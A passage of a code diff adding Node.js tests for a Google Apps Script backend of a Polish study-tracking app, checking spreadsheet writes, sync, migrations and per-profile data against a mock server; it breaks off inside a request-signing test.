@@ -0,0 +1,683 @@
+/**
+ * Apps Script backend tests against the local mock server.
+ * Run with: node --test tests/
+ */
+const { test, before, after } = require('node:test');
+const assert = require('node:assert/strict');
+
+const { createMockServer } = require('../scripts/mock-gas-server.js');
+const { GoogleSheetsStorage } = require('../js/storageAdapters.js');
+const TaskCache = require('../js/taskCache.js');
+const Correctness = require('../js/correctness.js');
+
+const SPREADSHEET_ID = 'mock-spreadsheet';
+
+const fixtures = {
+    StudySessions: [
+        ['session_id', 'start_time', 'end_time', 'duration_minutes', 'total_tasks', 'correct_tasks', 'accuracy_percentage', 'notes'],
+        ['session_fixture', '2025-01-10T09:00:00.000Z', '2025-01-10T10:00:00.000Z', 60, 2, 1, 50, '']
+    ]
+};
+
+let server;
+let baseUrl;
+let storage;
+
+before(async () => {
+    server = createMockServer({ fixtures, serveApp: true });
+    await new Promise(resolve => server.listen(0, '127.0.0.1', resolve));
+    baseUrl = `http://127.0.0.1:${server.address().port}`;
+    storage = new GoogleSheetsStorage({ GAS_WEB_APP_URL: `${baseUrl}/exec`, SPREADSHEET_ID });
+});
+
+after(() => new Promise(resolve => server.close(resolve)));
+
+function studyTask(taskId, overrides = {}) {
+    return [taskId, 'Równania kwadratowe', '', 'Algebra', 'Poprawnie', '2025-01-10T09:05:00.000Z', '2025-01-10T09:15:00.000Z', 'Dom', 'Matematyka', 'session_fixture']
+        .map((value, index) => (index in overrides ? overrides[index] : value));
+}
+
+function studyTaskRows() {
+    return server.backend.openSpreadsheet(SPREADSHEET_ID).dump('StudyTasks');
+}
+
+test('a fresh spreadsheet is seeded with the default subjects', async () => {
+    const result = await storage.read('getSubjects');
+
+    assert.equal(result.success, true);
+    assert.deepEqual(result.data.map(subject => subject.subject_name), ['Matematyka', 'Polski', 'Angielski', 'Historia']);
+});
+
+test('fixture sheets are readable', async () => {
+    const result = await storage.read('getStudySessions');
+
+    assert.equal(result.success, true);
+    assert.equal(result.data.length, 1);
+    assert.equal(result.data[0].session_id, 'session_fixture');
+    assert.equal(result.data[0].duration_minutes, 60);
+});
+
+test('addStudyTask creates the sheet and is acknowledged with the row', async () => {
+    const result = await storage.write('addStudyTask', studyTask('task_add'));
+
+    assert.equal(result.success, true);
+    assert.equal(result.rowId, 'task_add');
+    assert.equal(result.data.rowNumber, 2);
+    assert.equal(result.data.duplicate, false);
+
+    const rows = studyTaskRows();
+    assert.deepEqual(rows[0], ['task_id', 'task_name', 'description', 'categories', 'correctly_completed', 'start_time', 'end_time', 'location', 'subject', 'session_id', 'updated_at', 'user_id']);
+    assert.equal(rows[1][1], 'Równania kwadratowe');
+    assert.ok(!isNaN(new Date(rows[1][10]).getTime()));
+});
+
+test('replaying a write with the same id updates the row instead of duplicating it', async () => {
+    await storage.write('addStudyTask', studyTask('task_replay'));
+    const replay = await storage.write('addStudyTask', studyTask('task_replay', { 4: 'Błędnie' }));
+
+    assert.equal(replay.data.duplicate, true);
+
+    const matching = studyTaskRows().filter(row => row[0] === 'task_replay');
+    assert.equal(matching.length, 1);
+    assert.equal(matching[0][4], 'Błędnie');
+});
+
+test('getStudyTasks filters by session', async () => {
+    await storage.write('addStudyTask', studyTask('task_other_session', { 9: 'session_other' }));
+
+    const all = await storage.read('getStudyTasks');
+    const filtered = await storage.read('getStudyTasks', { sessionId: 'session_other' });
+
+    assert.ok(all.data.length > filtered.data.length);
+    assert.deepEqual(filtered.data.map(task => task.task_id), ['task_other_session']);
+});
+
+test('updateTask changes fields and deleteTask is idempotent', async () => {
+    await storage.write('addStudyTask', studyTask('task_edit'));
+
+    await storage.write('updateTask', { task_id: 'task_edit', changes: { task_name: 'Geometria analityczna', location: 'Biblioteka' } });
+    const updated = studyTaskRows().find(row => row[0] === 'task_edit');
+    assert.equal(updated[1], 'Geometria analityczna');
+    assert.equal(updated[7], 'Biblioteka');
+
+    const deleted = await storage.write('deleteTask', { task_id: 'task_edit' });
+    assert.equal(deleted.data.duplicate, false);
+    assert.equal(studyTaskRows().some(row => row[0] === 'task_edit'), false);
+
+    const deletedAgain = await storage.write('deleteTask', { task_id: 'task_edit' });
+    assert.equal(deletedAgain.success, true);
+    assert.equal(deletedAgain.data.duplicate, true);
+});
+
+test('getStudyTasks returns rows changed since a time, in pages', async () => {
+    const all = await storage.read('getStudyTasks');
+    assert.equal(all.next_cursor, null);
+    assert.equal(all.ids, null);
+
+    const firstPage = await storage.read('getStudyTasks', { since: '2000-01-01T00:00:00.000Z', limit: '2' });
+    assert.deepEqual(firstPage.data.map(task => task.task_id), all.data.slice(0, 2).map(task => task.task_id));
+    assert.equal(firstPage.next_cursor, '2');
+    assert.deepEqual(firstPage.ids, all.data.map(task => task.task_id));
+
+    const secondPage = await storage.read('getStudyTasks', { since: '2000-01-01T00:00:00.000Z', limit: '2', cursor: firstPage.next_cursor });
+    assert.deepEqual(secondPage.data.map(task => task.task_id), all.data.slice(2, 4).map(task => task.task_id));
+    assert.equal(secondPage.ids, null);
+
+    await storage.write('addStudyTask', studyTask('task_incremental'));
+    const changed = await storage.read('getStudyTasks', { since: all.server_time });
+    assert.deepEqual(changed.data.map(task => task.task_id), ['task_incremental']);
+    assert.equal(changed.ids.length, all.data.length + 1);
+
+    const invalid = await storage.read('getStudyTasks', { since: 'yesterday' });
+    assert.equal(invalid.success, false);
+    assert.match(invalid.error, /Invalid since/);
+});
+
+test('the task cache downloads only changed rows and drops deleted ones', async () => {
+    const cache = new TaskCache({ pageSize: 2 });
+    const requests = [];
+    const fetchPage = params => {
+        requests.push(params);
+        return storage.read('getStudyTasks', params);
+    };
+
+    const initial = await cache.sync('mock:getStudyTasks', fetchPage);
+    const sheetIds = () => studyTaskRows().slice(1).map(row => row[0]);
+    assert.deepEqual(initial.map(task => task.task_id), sheetIds());
+    assert.equal(requests.length, Math.ceil(initial.length / 2));
+
+    requests.length = 0;
+    await storage.write('addStudyTask', studyTask('task_cached_new'));
+    await storage.write('updateTask', { task_id: 'task_add', changes: { task_name: 'Funkcja liniowa' } });
+    await storage.write('deleteTask', { task_id: 'task_replay' });
+
+    const synced = await cache.sync('mock:getStudyTasks', fetchPage);
+    assert.equal(requests.length, 1);
+    assert.ok(requests[0].since);
+    assert.deepEqual(synced.map(task => task.task_id), sheetIds());
+    assert.equal(synced.find(task => task.task_id === 'task_add').task_name, 'Funkcja liniowa');
+    assert.equal(synced.some(task => task.task_id === 'task_replay'), false);
+});
+
+test('rows edited by hand are downloaded again after the edit trigger or a full sync', async () => {
+    const cache = new TaskCache({ pageSize: 2 });
+    const fetchPage = params => storage.read('getStudyTasks', params);
+    await cache.sync('mock:edited', fetchPage);
+
+    const sheet = server.backend.openSpreadsheet(SPREADSHEET_ID).getSheetByName('StudyTasks');
+    const headers = studyTaskRows()[0];
+    const nameColumn = headers.indexOf('task_name') + 1;
+    const nameOf = (tasks, row) => tasks.find(task => task.task_id === studyTaskRows()[row - 1][0]).task_name;
+
+    // A hand edit leaves updated_at as it was
+    sheet.getRange(2, nameColumn).setValue('Poprawione ręcznie');
+    assert.notEqual(nameOf(await cache.sync('mock:edited', fetchPage), 2), 'Poprawione ręcznie');
+
+    server.backend.context.stampEditedRows({ range: sheet.getRange(2, nameColumn) });
+    assert.equal(nameOf(await cache.sync('mock:edited', fetchPage), 2), 'Poprawione ręcznie');
+
+    // Without the trigger the rows are downloaded in full once the last full sync is old enough
+    sheet.getRange(3, nameColumn).setValue('Bez wyzwalacza');
+    const entry = await cache.get('mock:edited');
+    await cache.put({ ...entry, full_sync_at: new Date(Date.now() - 25 * 60 * 60 * 1000).toISOString() });
+
+    const requests = [];
+    const synced = await cache.sync('mock:edited', params => {
+        requests.push(params);
+        return fetchPage(params);
+    });
+    assert.equal(requests[0].since, undefined);
+    assert.equal(nameOf(synced, 3), 'Bez wyzwalacza');
+});
+
+test('the edit trigger keeps a hand-typed updated_at and skips other sheets and the header', () => {
+    const spreadsheet = server.backend.openSpreadsheet(SPREADSHEET_ID);
+    const sheet = spreadsheet.getSheetByName('StudyTasks');
+    const updatedColumn = studyTaskRows()[0].indexOf('updated_at') + 1;
+
+    sheet.getRange(2, updatedColumn).setValue('2020-01-01T00:00:00.000Z');
+    server.backend.context.stampEditedRows({ range: sheet.getRange(2, updatedColumn) });
+    assert.equal(studyTaskRows()[1][updatedColumn - 1], '2020-01-01T00:00:00.000Z');
+
+    server.backend.context.stampEditedRows({ range: sheet.getRange(1, 1, 1, 3) });
+    assert.equal(studyTaskRows()[0][updatedColumn - 1], 'updated_at');
+
+    const sessions = spreadsheet.dump('StudySessions');
+    server.backend.context.stampEditedRows({ range: spreadsheet.getSheetByName('StudySessions').getRange(2, 1) });
+    assert.deepEqual(spreadsheet.dump('StudySessions'), sessions);
+});
+
+test('rejected writes are reported as not retryable', async () => {
+    await assert.rejects(
+        storage.write('addStudyTask', studyTask('task_invalid', { 1: '' })),
+        error => error.code === 'VALIDATION_ERROR' && error.retryable === false
+    );
+
+    await assert.rejects(
+        storage.write('updateTask', { task_id: 'task_missing', changes: { task_name: 'x' } }),
+        error => error.code === 'VALIDATION_ERROR' && /Task not found/.test(error.message)
+    );
+});
+
+test('saveReviewCards upserts a batch of cards by card_id', async () => {
+    const card = ['card_task_add', 'task_add', 'Równania kwadratowe', 'Matematyka', 'Algebra', 2.5, 1, 0, 0, '2025-01-11', '2025-01-10T09:05:00.000Z', 'incorrect', '2025-01-10T09:05:00.000Z'];
+    const other = ['card_task_get', 'task_get', 'Ciągi', 'Matematyka', '', 2.5, 1, 0, 0, '2025-01-11', '2025-01-10T09:05:00.000Z', 'partial', '2025-01-10T09:05:00.000Z'];
+
+    const created = await storage.write('saveReviewCards', [card, other]);
+    assert.equal(created.success, true);
+    assert.equal(created.data.saved, 2);
+    assert.equal(created.data.created, 2);
+
+    const reviewed = [...card];
+    reviewed[7] = 1;
+    reviewed[9] = '2025-01-12';
+    const updated = await storage.write('saveReviewCards', [reviewed]);
+    assert.equal(updated.rowId, 'card_task_add');
+    assert.equal(updated.data.created, 0);
+
+    const result = await storage.read('getReviewQueue');
+    assert.equal(result.success, true);
+    assert.deepEqual(result.data.map(item => item.card_id), ['card_task_add', 'card_task_get']);
+    assert.equal(result.data[0].repetitions, 1);
+
+    await assert.rejects(
+        storage.write('saveReviewCards', [['', 'task_x']]),
+        error => error.code === 'VALIDATION_ERROR'
+    );
+});
+
+test('importStudyTasks writes a batch at once and rejects it whole', async () => {
+    const importer = new GoogleSheetsStorage({ GAS_WEB_APP_URL: `${baseUrl}/exec`, SPREADSHEET_ID: 'import-spreadsheet' });
+    const spreadsheet = server.backend.openSpreadsheet('import-spreadsheet');
+    await importer.write('addStudyTask', { task_id: 'import_a', task_name: 'Stara nazwa', start_time: '2024-03-01T10:00:00.000Z' });
+
+    const tasks = [
+        { task_id: 'import_a', task_name: 'Całki', subject: 'Matematyka', start_time: '2024-03-01T10:00:00.000Z', user_id: 'ania' },
+        { task_id: 'import_b', task_name: 'Pochodne', correctly_completed: 'No', start_time: '2024-03-02T10:00:00.000Z' }
+    ];
+    const result = await importer.write('importStudyTasks', tasks);
+    assert.equal(result.success, true);
+    assert.equal(result.data.saved, 2);
+    assert.equal(result.data.created, 1);
+
+    const rows = spreadsheet.dump('StudyTasks');
+    assert.deepEqual(rows.slice(1).map(row => [row[0], row[1], row[11]]), [['import_a', 'Całki', 'ania'], ['import_b', 'Pochodne', 'default']]);
+    // A task without an end time took place at its start time
+    assert.equal(rows[2][6], '2024-03-02T10:00:00.000Z');
+
+    await assert.rejects(
+        importer.write('importStudyTasks', [{ task_id: 'import_c', task_name: 'Granice', start_time: '2024-03-03' }, { task_id: 'import_d', task_name: 'Szeregi', start_time: 'wczoraj' }]),
+        error => error.code === 'VALIDATION_ERROR' && /Task 2: invalid start_time/.test(error.message)
+    );
+    assert.equal(spreadsheet.dump('StudyTasks').length, 3);
+});
+
+test('updateSetting keeps the value with the newer updated_at', async () => {
+    const saved = await storage.write('updateSetting', { key: 'daily_goal', value: 15, type: 'number', updated_at: '2025-01-10T10:00:00.000Z' });
+    assert.equal(saved.success, true);
+    assert.equal(saved.data.stale, false);
+
+    const stale = await storage.write('updateSetting', { key: 'daily_goal', value: 8, type: 'number', updated_at: '2025-01-09T10:00:00.000Z' });
+    assert.equal(stale.data.stale, true);
+    assert.equal(stale.data.setting.value, 15);
+    assert.equal(stale.data.setting.updated_at, '2025-01-10T10:00:00.000Z');
+
+    const result = await storage.read('getSettings');
+    assert.equal(result.success, true);
+    assert.equal(result.data.daily_goal.value, 15);
+    assert.equal(result.data.daily_goal.updated_at, '2025-01-10T10:00:00.000Z');
+    assert.equal(Object.keys(result.data).length, 1);
+});
+
+test('updateAchievement seeds the default achievements and keeps the first unlock date', async () => {
+    const unlocked = await storage.write('updateAchievement', { achievement_id: 'first_task', unlocked: true, unlock_date: '2025-01-10T09:00:00.000Z' });
+    assert.equal(unlocked.success, true);
+    assert.equal(unlocked.data.unlock_date, '2025-01-10T09:00:00.000Z');
+
+    const again = await storage.write('updateAchievement', { achievement_id: 'first_task', unlocked: true, unlock_date: '2025-02-01T09:00:00.000Z' });
+    assert.equal(again.data.unlock_date, '2025-01-10T09:00:00.000Z');
+
+    const result = await storage.read('getAchievements');
+    const firstTask = result.data.find(item => item.achievement_id === 'first_task');
+    assert.equal(result.data.length, 7);
+    assert.match(result.data.find(item => item.achievement_id === 'early_bird').rule, /before_hour/);
+    assert.equal(firstTask.unlocked, true);
+    assert.equal(firstTask.unlock_date, '2025-01-10T09:00:00.000Z');
+    assert.equal(result.data.find(item => item.achievement_id === 'streak_7').unlocked, false);
+
+    await assert.rejects(
+        storage.write('updateAchievement', { achievement_id: 'nope', unlocked: true }),
+        error => error.code === 'VALIDATION_ERROR'
+    );
+});
+
+test('writes are accepted through the GET fallback transport', async () => {
+    const query = new URLSearchParams({
+        action: 'addStudyTask',
+        spreadsheetId: SPREADSHEET_ID,
+        data: JSON.stringify(studyTask('task_get'))
+    });
+    const response = await fetch(`${baseUrl}/exec?${query}`);
+    const result = await response.json();
+
+    assert.equal(response.headers.get('access-control-allow-origin'), '*');
+    assert.equal(result.success, true);
+    assert.equal(result.action, 'addStudyTask');
+    assert.equal(studyTaskRows().filter(row => row[0] === 'task_get').length, 1);
+});
+
+test('a fresh spreadsheet gets every sheet and records the schema version', async () => {
+    await storage.read('getSubjects');
+    const spreadsheet = server.backend.openSpreadsheet(SPREADSHEET_ID);
+
+    assert.deepEqual(spreadsheet.dump('_Schema').slice(1).map(row => row[0]), [1, 2, 3, 4, 5]);
+    ['Settings', 'Achievements', 'ReviewQueue', 'StudyTasks'].forEach(name => {
+        assert.ok(spreadsheet.getSheetByName(name), `${name} sheet exists`);
+    });
+    assert.equal(spreadsheet.dump('Tasks')[0][8], 'updated_at');
+});
+
+test('older sheet layouts are migrated in place', async () => {
+    const legacyId = 'legacy-spreadsheet';
+    const legacy = new GoogleSheetsStorage({ GAS_WEB_APP_URL: `${baseUrl}/exec`, SPREADSHEET_ID: legacyId });
+    const spreadsheet = server.backend.openSpreadsheet(legacyId);
+    spreadsheet.setSheet('Tasks', [
+        ['task_name', 'category', 'subject', 'correctness', 'timestamp', 'points', 'session_id'],
+        ['Równania', 'Algebra', 'Matematyka', 'Poprawnie', '2024-01-15T14:30:00.000Z', 5, ''],
+        ['Gramatyka', 'Części mowy', 'Polski', 'Błędnie', '2024-01-15T15:00:00.000Z', 2, 'pom_001']
+    ]);
+    spreadsheet.setSheet('Settings', [
+        ['setting_key', 'setting_value', 'setting_type', 'description'],
+        ['daily_goal', '12', 'number', 'Dzienny cel zadań']
+    ]);
+    spreadsheet.setSheet('Subjects', [
+        ['Timestamp', 'Nazwa przedmiotu', 'Opis'],
+        ['2024-01-01T10:00:00.000Z', 'Fizyka', 'Mechanika']
+    ]);
+
+    const studyTasks = await legacy.read('getStudyTasks');
+    assert.deepEqual(studyTasks.data.map(task => [task.task_name, task.categories, task.correctly_completed, task.start_time]), [
+        ['Równania', 'Algebra', 'Yes', '2024-01-15T14:30:00.000Z'],
+        ['Gramatyka', 'Części mowy', 'No', '2024-01-15T15:00:00.000Z']
+    ]);
+
+    // Columns are moved by name, unknown ones are kept and every task gets a stable id
+    const tasks = spreadsheet.dump('Tasks');
+    assert.deepEqual(tasks[0], ['task_name', 'description', 'category', 'subject', 'correctness', 'timestamp', 'session_id', 'task_id', 'updated_at', 'user_id', 'points']);
+    assert.deepEqual(tasks.slice(1).map(row => [row[2], row[6], row[10]]), [['Algebra', '', 5], ['Części mowy', 'pom_001', 2]]);
+    assert.deepEqual(tasks.slice(1).map(row => row[7]), studyTasks.data.map(task => task.task_id));
+
+    assert.equal((await legacy.read('getSettings')).data.daily_goal.value, '12');
+    const subjects = await legacy.read('getSubjects');
+    assert.deepEqual(subjects.data.map(subject => subject.subject_name), ['Fizyka']);
+    assert.deepEqual(spreadsheet.dump('Subjects')[1], ['Fizyka', '', '', '', '2024-01-01T10:00:00.000Z', 'Mechanika']);
+
+    // Running the migrations again changes nothing
+    const { context } = server.backend;
+    context.migrateSheetLayout(spreadsheet.getSheetByName('Tasks'), tasks[0].slice(0, 10), {});
+    context.copyTasksToStudyTasks(spreadsheet);
+    assert.deepEqual(spreadsheet.dump('Tasks'), tasks);
+    assert.equal(spreadsheet.dump('StudyTasks').length, 3);
+    assert.equal(spreadsheet.dump('_Schema').length, 6);
+});
+
+test('rows are read per student profile', async () => {
+    const profilesId = 'profiles-spreadsheet';
+    const shared = new GoogleSheetsStorage({ GAS_WEB_APP_URL: `${baseUrl}/exec`, SPREADSHEET_ID: profilesId });
+    const spreadsheet = server.backend.openSpreadsheet(profilesId);
+    // A v2 spreadsheet: every row was written before profiles existed
+    spreadsheet.setSheet('_Schema', [['version', 'description', 'applied_at'], [1, '', ''], [2, '', '']]);
+    spreadsheet.setSheet('StudySessions', [fixtures.StudySessions[0], ['session_old', '2025-01-09T09:00:00.000Z', '', 30, 1, 1, 100, '']]);
+
+    await shared.write('addStudySession', { session_id: 'session_ania', start_time: '2025-01-10T09:00:00.000Z', user_id: 'ania' });
+    await shared.write('addStudySession', { session_id: 'session_new', start_time: '2025-01-11T09:00:00.000Z' });
+    await shared.write('addStudyTask', { task_id: 'task_ania', task_name: 'Całki', user_id: 'ania' });
+    await shared.write('addStudyTask', { task_id: 'task_default', task_name: 'Pochodne' });
+
+    const sessions = async params => (await shared.read('getStudySessions', params)).data.map(session => session.session_id);
+    assert.deepEqual(await sessions({ user_id: 'ania' }), ['session_ania']);
+    // Rows without a user_id belong to the default profile
+    assert.deepEqual(await sessions({ user_id: 'default' }), ['session_old', 'session_new']);
+    // Older web apps do not send a profile and get every row
+    assert.deepEqual(await sessions(), ['session_old', 'session_ania', 'session_new']);
+
+    const tasks = await shared.read('getStudyTasks', { user_id: 'ania', since: '2000-01-01T00:00:00.000Z' });
+    assert.deepEqual(tasks.data.map(task => task.task_id), ['task_ania']);
+    assert.deepEqual(tasks.ids, ['task_ania']);
+
+    assert.equal(spreadsheet.dump('StudySessions')[0][8], 'user_id');
+    assert.equal(spreadsheet.dump('_Schema').length, 6);
+});
+
+test('achievement unlocks are kept per student profile', async () => {
+    const unlocksId = 'unlocks-spreadsheet';
+    const shared = new GoogleSheetsStorage({ GAS_WEB_APP_URL: `${baseUrl}/exec`, SPREADSHEET_ID: unlocksId });
+    const spreadsheet = server.backend.openSpreadsheet(unlocksId);
+    // A v3 spreadsheet: the unlock was stored on the shared definition row
+    spreadsheet.setSheet('_Schema', [['version', 'description', 'applied_at'], [1, '', ''], [2, '', ''], [3, '', '']]);
+    spreadsheet.setSheet('Achievements', [
+        ['achievement_id', 'name', 'description', 'icon', 'type', 'target_value', 'points_reward', 'unlocked', 'unlock_date', 'rule'],
+        ['first_task', 'Pierwsze kroki', '', '🎯', 'tasks', 1, 10, true, '2025-01-05T09:00:00.000Z', ''],
+        ['tasks_100', 'Setka', '', '💯', 'tasks', 100, 40, false, '', '']
+    ]);
+
+    const unlocked = async userId => (await shared.read('getAchievements', userId ? { user_id: userId } : {})).data
+        .filter(achievement => achievement.unlocked)
+        .map(achievement => [achievement.achievement_id, achievement.unlock_date]);
+
+    // Unlocks from before profiles belong to the default profile
+    assert.deepEqual(await unlocked('default'), [['first_task', '2025-01-05T09:00:00.000Z']]);
+    assert.deepEqual(await unlocked('ania'), []);
+    assert.deepEqual(spreadsheet.dump('Achievements').slice(1).map(row => [row[7], row[8]]), [['', ''], ['', '']]);
+
+    await shared.write('updateAchievement', { achievement_id: 'first_task', unlocked: true, unlock_date: '2025-02-01T09:00:00.000Z', user_id: 'ania' });
+    await shared.write('updateAchievement', { achievement_id: 'tasks_100', unlocked: true, unlock_date: '2025-02-02T09:00:00.000Z', user_id: 'ania' });
+    assert.deepEqual(await unlocked('ania'), [['first_task', '2025-02-01T09:00:00.000Z'], ['tasks_100', '2025-02-02T09:00:00.000Z']]);
+    // Requests without a profile read the default profile's unlocks
+    assert.deepEqual(await unlocked(), [['first_task', '2025-01-05T09:00:00.000Z']]);
+
+    // A reset removes only that profile's unlock
+    await shared.write('updateAchievement', { achievement_id: 'first_task', unlocked: false, user_id: 'ania' });
+    assert.deepEqual(await unlocked('ania'), [['tasks_100', '2025-02-02T09:00:00.000Z']]);
+    assert.deepEqual(await unlocked('default'), [['first_task', '2025-01-05T09:00:00.000Z']]);
+
+    // Moving the unlocks again adds nothing
+    server.backend.context.moveAchievementUnlocks(spreadsheet);
+    assert.equal(spreadsheet.dump('AchievementUnlocks').length, 3);
+});
+
+test('daily stats are kept and read per student profile', async () => {
+    const statsId = 'daily-stats-spreadsheet';
+    const shared = new GoogleSheetsStorage({ GAS_WEB_APP_URL: `${baseUrl}/exec`, SPREADSHEET_ID: statsId });
+    await shared.read('getSubjects');
+    const spreadsheet = server.backend.openSpreadsheet(statsId);
+    // Back to v4: User_Stats rows were totals of every profile
+    spreadsheet.setSheet('_Schema', [['version', 'description', 'applied_at'], [1, '', ''], [2, '', ''], [3, '', ''], [4, '', '']]);
+    spreadsheet.setSheet('User_Stats', [
+        ['date', 'tasks_completed', 'correct_tasks', 'points_earned', 'pomodoro_sessions', 'study_time_minutes'],
+        ['2025-01-10', 3, 2, 0, 1, 25]
+    ]);
+
+    const now = new Date().toISOString();
+    await shared.write('addTask', { task_name: 'Całki', correctness: 'Poprawnie', timestamp: now, user_id: 'ania' });
+    await shared.write('addTask', { task_name: 'Pochodne', correctness: 'Błędnie', timestamp: now, user_id: 'ania' });
+    await shared.write('addTask', { task_name: 'Granice', correctness: 'Dobrze', timestamp: now });
+    await shared.write('addPomodoroSession', { session_id: 'pomodoro_ania', start_time: now, duration_minutes: 25, user_id: 'ania' });
+
+    const stats = async userId => (await shared.read('getUserStats', { user_id: userId })).data
+        .map(stat => [stat.tasks_completed, stat.correct_tasks, stat.pomodoro_sessions, stat.study_time_minutes]);
+    assert.deepEqual(await stats('ania'), [[2, 1, 1, 25]]);
+    // Rows from before schema version 5 belong to the default profile
+    assert.deepEqual(await stats('default'), [[3, 2, 1, 25], [1, 1, 0, 0]]);
+    assert.equal(spreadsheet.dump('User_Stats')[0][6], 'user_id');
+
+    // getDailyStats summarises the profile's StudyTasks per day
+    const studyTaskOf = (taskId, fields) => ({
+        task_id: taskId,
+        task_name: 'Równania',
+        correctly_completed: 'Yes',
+        start_time: '2025-01-10T09:05:00.000Z',
+        end_time: '2025-01-10T09:15:00.000Z',
+        subject: 'Matematyka',
+        session_id: 'session_a',
+        ...fields
+    });
+    await shared.write('addStudyTask', studyTaskOf('task_daily_1', { user_id: 'ania' }));
+    await shared.write('addStudyTask', studyTaskOf('task_daily_2', { correctly_completed: '50/50', subject: 'Fizyka', user_id: 'ania' }));
+    await shared.write('addStudyTask', studyTaskOf('task_daily_3', { start_time: '2025-01-11T09:05:00.000Z', end_time: '2025-01-11T09:25:00.000Z' }));
+
+    const daily = await shared.read('getDailyStats', { user_id: 'ania' });
+    assert.deepEqual(daily.data, [{
+        date: '2025-01-10',
+        total_tasks: 2,
+        correct_tasks: 1,
+        accuracy_percentage: 75,
+        total_study_time: 20,
+        sessions_count: 1,
+        subjects: ['Matematyka', 'Fizyka'],
+        top_subject: 'Matematyka'
+    }]);
+    assert.deepEqual((await shared.read('getDailyStats', { user_id: 'default' })).data.map(day => [day.date, day.total_study_time]), [['2025-01-11', 20]]);
+});
+
+test('subjects and categories are added, renamed and deleted', async () => {
+    const added = await storage.write('addSubject', ['Fizyka', '#123456', '⚛️']);
+    assert.equal(added.success, true);
+    await storage.write('addCategory', ['Kinematyka', 'Fizyka', 'Trudny']);
+
+    await assert.rejects(storage.write('addSubject', ['Fizyka']), error => error.code === 'VALIDATION_ERROR');
+
+    await storage.write('update', ['Fizyka i astronomia', '', ''], { formType: 'subject', itemId: 'Fizyka' });
+    const categories = await storage.read('getCategories', { subject: 'Fizyka i astronomia' });
+    assert.deepEqual(categories.data.map(category => category.category_name), ['Kinematyka']);
+
+    const deleted = await storage.write('deleteSubject', null, { name: 'Fizyka i astronomia' });
+    assert.equal(deleted.data.duplicate, false);
+    const subjects = await storage.read('getSubjects');
+    assert.equal(subjects.data.some(subject => subject.subject_name === 'Fizyka i astronomia'), false);
+
+    // Adding a deleted subject again restores it
+    const restored = await storage.write('addSubject', ['Fizyka i astronomia']);
+    assert.equal(restored.data.message, 'Restored successfully');
+});
+
+test('columns are found by header name, so user columns survive writes', async () => {
+    const customId = 'custom-columns-spreadsheet';
+    const custom = new GoogleSheetsStorage({ GAS_WEB_APP_URL: `${baseUrl}/exec`, SPREADSHEET_ID: customId });
+    await custom.read('getSubjects');
+
+    // The user inserts a "Źródło" column after task_name
+    const spreadsheet = server.backend.openSpreadsheet(customId);
+    const headers = spreadsheet.dump('StudyTasks')[0];
+    spreadsheet.setSheet('StudyTasks', [[...headers.slice(0, 2), 'Źródło', ...headers.slice(2)]]);
+
+    await custom.write('addStudyTask', {
+        task_id: 'task_named',
+        task_name: 'Całki',
+        categories: 'Analiza',
+        correctly_completed: 'Yes',
+        start_time: '2025-01-10T09:05:00.000Z',
+        end_time: '2025-01-10T09:15:00.000Z',
+        subject: 'Matematyka'
+    });
+    let row = spreadsheet.dump('StudyTasks')[1];
+    assert.deepEqual([row[1], row[2], row[4], row[9]], ['Całki', '', 'Analiza', 'Matematyka']);
+
+    spreadsheet.getSheetByName('StudyTasks').getRange(2, 3).setValue('Zbiór zadań');
+
+    // Edits, replays and legacy positional rows leave the user column alone
+    await custom.write('updateTask', { task_id: 'task_named', changes: { correctly_completed: 'No' } });
+    await custom.write('addStudyTask', { task_id: 'task_named', task_name: 'Całki', correctly_completed: 'No' });
+    await custom.write('addStudyTask', studyTask('task_positional'));
+
+    const rows = spreadsheet.dump('StudyTasks');
+    row = rows[1];
+    assert.deepEqual([row[2], row[4], row[5]], ['Zbiór zadań', 'Analiza', 'No']);
+    assert.deepEqual([rows[2][1], rows[2][2], rows[2][9]], ['Równania kwadratowe', '', 'Matematyka']);
+
+    // The user column can be edited and is returned by reads
+    await custom.write('updateTask', { task_id: 'task_positional', changes: { 'Źródło': 'Arkusz CKE' } });
+    const tasks = await custom.read('getStudyTasks');
+    assert.deepEqual(tasks.data.map(task => [task.task_id, task['Źródło']]), [['task_named', 'Zbiór zadań'], ['task_positional', 'Arkusz CKE']]);
+});
+
+test('the backend reads correctness with the same spellings as the app', async () => {
+    const { getCorrectnessOutcome } = server.backend.context;
+    Object.entries(Correctness.ALIASES).forEach(([outcome, aliases]) => {
+        aliases.forEach(alias => assert.equal(getCorrectnessOutcome(alias), outcome, alias));
+    });
+
+    const analyticsId = 'analytics-spreadsheet';
+    const values = ['Poprawnie', 'Yes', 'Dobrze', true, 'Częściowo', 'Błędnie', 'Źle'];
+    server.backend.openSpreadsheet(analyticsId).setSheet('Tasks', [
+        ['task_name', 'description', 'category', 'subject', 'correctness', 'timestamp'],
+        ...values.map((value, index) => [`Zadanie ${index}`, '', 'Algebra', 'Matematyka', value, new Date().toISOString()])
+    ]);
+    const reader = new GoogleSheetsStorage({ GAS_WEB_APP_URL: `${baseUrl}/exec`, SPREADSHEET_ID: analyticsId });
+
+    const analytics = await reader.read('getAnalytics');
+    assert.equal(analytics.data.correctTasks, values.filter(value => Correctness.isCorrect(value)).length);
+    assert.equal(analytics.data.correctTasks, 4);
+    assert.deepEqual((await reader.read('getStudyTasks')).data.map(task => task.correctly_completed), ['Yes', 'Yes', 'Yes', 'Yes', '50/50', 'No', 'No']);
+});
+
+test('writes to a sheet missing a required column are rejected', async () => {
+    const spreadsheet = server.backend.openSpreadsheet(SPREADSHEET_ID);
+    const sessions = spreadsheet.dump('StudySessions');
+    spreadsheet.setSheet('StudySessions', sessions.map(row => row.filter((value, index) => index !== 3)));
+
+    await assert.rejects(
+        storage.write('addStudySession', { session_id: 'session_rejected', start_time: '2025-01-11T09:00:00.000Z', duration_minutes: 30 }),
+        error => error.code === 'VALIDATION_ERROR' && /missing required columns: duration_minutes/.test(error.message)
+    );
+    assert.equal(spreadsheet.dump('StudySessions').length, sessions.length);
+
+    spreadsheet.setSheet('StudySessions', sessions);
+});
+
+test('requests must be signed once the API_SECRET script property is set', async () => {
+    const { scriptProperties } = server.backend;
+    const spreadsheet = server.backend.openSpreadsheet(SPREADSHEET_ID);
+    const authLog = server.backend.openSpreadsheet('auth-log-spreadsheet');
+    const withToken = token => new GoogleSheetsStorage({ GAS_WEB_APP_URL: `${baseUrl}/exec`, SPREADSHEET_ID, API_TOKEN: token });
+    scriptProperties.set('API_SECRET', 'test-secret');
+    scriptProperties.set('AUTH_LOG_SPREADSHEET_ID', 'auth-log-spreadsheet');
+
+    try {
+        // Unsigned and wrongly signed requests are refused and logged
+        const unsigned = await storage.read('getSubjects');
